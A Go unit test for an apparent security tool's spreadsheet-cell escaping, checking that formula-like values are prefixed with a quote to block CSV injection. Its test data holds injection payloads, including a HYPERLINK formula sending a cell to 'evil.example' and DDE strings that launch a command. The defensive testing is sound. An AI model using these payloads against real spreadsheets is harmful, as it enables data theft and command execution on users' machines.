package sheet_test

import (
	"slices"
	"testing"

	"github.com/vedette-edr/vedette/sheet"
)

// What https://owasp.org/www-community/attacks/CSV_Injection names, and its variations.
func TestWhatASpreadsheetWouldComputeIsText(t *testing.T) {
	for _, s := range []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠A1",
		`=HYPERLINK("https://evil.example/?"&A1)`, `=cmd|' /C calc'!A0`, "|calc", "%0A=1", "-2+3+cmd|' /C calc'!A0", "-inf", "+", "-", "--", "-1e9999", "-0x10"} {
		if got := sheet.Cell(s); got != "'"+s {
			t.Errorf("%q is written %q", s, got)
		}
	}
	for _, s := range []string{"", " ", "a=b", "web-01", "1-2", "'quoted", "-5", "+5", "-5.25", "-1e-7", "  -5", "10%", "a|b", "user@example.com"} {
		if got := sheet.Cell(s); got != s {
			t.Errorf("%q is written %q", s, got)
		}
	}
	in := []string{"=1", "a"}
	if got := sheet.Row(in); !slices.Equal(got, []string{"'=1", "a"}) || in[0] != "=1" {
		t.Errorf("%q of %q", got, in)
	}
}
